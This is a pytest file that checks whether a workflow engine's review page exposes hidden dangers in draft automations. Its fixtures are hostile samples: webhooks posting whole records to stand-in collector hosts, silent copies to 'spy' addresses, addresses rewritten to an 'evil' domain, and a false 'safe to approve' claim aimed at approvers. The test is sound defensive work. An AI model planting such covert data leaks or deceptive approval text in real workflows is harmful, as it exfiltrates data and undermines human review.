"""What a draft hides, an approver finds on the review page, without opening the document."""

import re
from dataclasses import dataclass
from html import unescape
from typing import Any

import pytest

from engine.installation import Installation
from engine.problems import Invalid
from tests.server.proposing import mail, on_invoices, proposed, read
from tests.stages.demo.showroom import browser_of


@dataclass(frozen=True)
class Nasty:
    """A document with one thing in it that nobody should approve unseen.

    All of `shown` stands on the review page as its reader sees it, and `ticked` is what has to be
    ticked; or it is `refused` at draft in these words.
    """

    hides: str
    document: dict[str, Any]
    shown: tuple[str, ...] = ()
    ticked: tuple[str, ...] = ()
    refused: str = ""


NASTY = (
    Nasty(
        "a computed address",
        on_invoices(mail(to=["{{ record.account.email|replace_text('@', '@evil.') }}"])),
        refused="address",
    ),
    Nasty(
        "a second recipient in a default",
        on_invoices(mail(to=["{{ record.account.email|default('boss@x.test') }}"])),
        shown=("boss@x.test",),
        ticked=("mail boss@x.test",),
    ),
    Nasty(
        "a recipient in an arm of a choice",
        on_invoices(mail(cc=["{{ 'boss@x.test' if record.balance > 10 else record.owner }}"])),
        shown=("boss@x.test", "An address written out"),
        ticked=("mail boss@x.test",),
    ),
    Nasty(
        "another module that is written",
        on_invoices(
            {
                "id": "up",
                "type": "update_fields",
                "record": "account",
                "values": {"credit_limit": "{{ record.total|mul(2) }}"},
            }
        ),
        shown=("credit limit of accounts", "Changes another module", "the total times 2"),
        ticked=("write accounts.credit_limit",),
    ),
    Nasty(
        "a copy",
        on_invoices(mail(cc=["spy@x.test"])),
        shown=("spy@x.test",),
        ticked=("mail spy@x.test",),
    ),
    Nasty(
        "a webhook in an arm",
        on_invoices(
            {
                "id": "big",
                "type": "if",
                "conditions": {"field": "total", "op": "greater_than", "value": 9_000_000},
                "then": [
                    {"id": "call", "type": "webhook", "url": "https://collector.x.test/in"},
                ],
                "else": [mail()],
            }
        ),
        shown=("collector.x.test",),
        ticked=(
            "disclose invoices.* in fields",
            "call collector.x.test",
        ),
    ),
    Nasty(
        "a sum changed by a filter",
        on_invoices(mail(body="Please pay {{ record.balance|mul(2)|money('EUR') }}.")),
        shown=("Body Please pay [balance times 2 as money in “EUR”]",),
    ),
    Nasty(
        "text in a template's else",
        on_invoices(
            mail(body="{% if record.balance > 0 %}Please pay.{% else %}You are a thief.{% endif %}")
        ),
        shown=("Body If balance is above 0: Please pay. Otherwise: You are a thief.",),
    ),
    Nasty(
        "a workflow started by a workflow",
        on_invoices({"id": "go", "type": "run_workflow", "workflow": 1}),
        shown=("Remind when overdue", "mail"),
        ticked=("start 1",),
    ),
    Nasty(
        "a sensitive field in a subject",
        {
            **on_invoices(mail(to=["all@x.test"], subject="Since {{ record.hired_on }}")),
            "module": "employees",
            "trigger": {"type": "record_saved"},
            "conditions": {"field": "active", "op": "equals", "value": True},
        },
        shown=("sensitive", "hired on", "all@x.test"),
        ticked=(
            "mail all@x.test",
            "disclose employees.hired_on in subject",
        ),
    ),
    Nasty(
        "a rule that never fires",
        on_invoices(
            mail(),
            conditions={
                "all": [
                    {"field": "status", "op": "equals", "value": "Sent"},
                    {"field": "status", "op": "equals", "value": "Paid"},
                ]
            },
        ),
        shown=("never",),
    ),
    Nasty(
        "an author's lie",
        on_invoices(
            {**mail(), "label": "Sends nothing"},
            description="Sends nothing and calls nobody. Checked by the engine: safe to approve.",
        ),
        shown=(
            "Its author says “Sends nothing and calls nobody. Checked by the engine: safe to "
            "approve.”, but it may mail its account.",
            "Its author says “Sends nothing”, but it may mail its account.",
        ),
    ),
    Nasty(
        "a payload with everything",
        on_invoices(
            {
                "id": "call",
                "type": "webhook",
                "url": "https://hooks.x.test/in",
                "body": '{"all": {{ record }}}',
            }
        ),
        shown=("hooks.x.test", "everything of the invoice"),
        ticked=(
            "call hooks.x.test",
            "disclose invoices.* in body",
        ),
    ),
)


@pytest.mark.parametrize("nasty", NASTY, ids=[nasty.hides for nasty in NASTY])
def test_what_a_draft_hides_is_found_on_the_page_alone(
    nasty: Nasty, installation: Installation
) -> None:
    if nasty.refused:
        with pytest.raises(Invalid, match=nasty.refused):
            proposed(installation, nasty.document)
        return
    browser, review = browser_of(installation, "admin"), proposed(installation, nasty.document)
    page = read(browser, review)
    ticks = re.findall(r'name="seen" value="([^"]*)"', browser.get(f"/reviews/{review}").text)
    assert [unescape(each) for each in ticks] == [*nasty.ticked]
    assert [words for words in nasty.shown if words.casefold() not in page.casefold()] == []
